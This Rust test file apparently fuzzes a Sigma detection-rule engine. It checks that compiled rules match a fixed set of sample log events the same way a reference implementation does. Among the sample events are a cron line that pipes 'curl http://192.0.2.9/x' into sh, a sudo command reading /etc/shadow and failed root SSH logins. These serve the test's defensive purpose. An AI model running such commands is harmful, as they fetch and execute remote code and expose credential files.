//! Rules as loaded: the program must answer what its plain twin answers.

use std::sync::LazyLock;

use canh_event::{BatchBuilder, EventBatch};
use canh_parse::Parser;
use canh_sigma::{Matcher, Program, Routing, RuleFile, RuleSet, reference};

use crate::events::parse_lines;

/// A few events of each kind.
static EVENTS: LazyLock<EventBatch> = LazyLock::new(|| {
    let (mut parser, mut builder) = (Parser::new(), BatchBuilder::new());
    let lines: [&[u8]; 7] = [
        b"Nov 24 10:07:03 web-01 sshd[812]: Failed password for root from 192.0.2.7 port 22 ssh2",
        b"Nov 24 10:07:09 web-01 sudo:    lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=/bin/cat /etc/shadow",
        b"Nov 24 10:08:00 web-01 CRON[99]: (root) CMD (curl http://192.0.2.9/x | sh)",
        br#"192.0.2.7 - - [24/Nov/2026:09:00:05 +0700] "GET /a?b=%27 HTTP/1.1" 404 162 "-" "curl/8""#,
        br#"{"Channel":"Security","EventID":4688,"CommandLine":"cmd /c -a \u00e9","User":null,"List":[1,"two",true]}"#,
        br#"{"User":"","SourcePort":4104.0,"SourceIp":"2001:db8::1","ssh":"password"}"#,
        b"",
    ];
    parse_lines(&mut parser, &mut builder, "auto", &lines);
    builder.finish()
});

/// Loads a file of rules, and runs what was not refused.
pub fn check_rules(text: &str) {
    let loaded = RuleSet::load([RuleFile { path: "fuzzed.yml".to_owned(), text: text.to_owned() }]);
    for diagnostic in loaded.refused.iter().chain(&loaded.warnings) {
        assert!(!diagnostic.to_string().is_empty());
    }
    let program = Program::compile(&loaded.rules);
    let mut hits = Vec::new();
    Matcher::new(&program).run(&EVENTS, Routing::Everything, &mut hits);
    let mut hits = hits.iter().peekable();
    for row in EVENTS.rows() {
        for (number, rule) in loaded.rules.rules().iter().enumerate() {
            let expected = reference::matches(rule, row);
            let is_hit = |hit: &&canh_sigma::Hit| hit.row == row.index() && usize::try_from(hit.rule.0) == Ok(number);
            let got = hits.next_if(is_hit).is_some();
            assert_eq!(got, expected, "rule {number} ({}) on row {}", rule.title, row.index());
            assert_eq!(reference::explain(rule, row).matches, expected, "the explanation says the same");
        }
    }
    assert!(hits.next().is_none(), "no hit is left over");
}
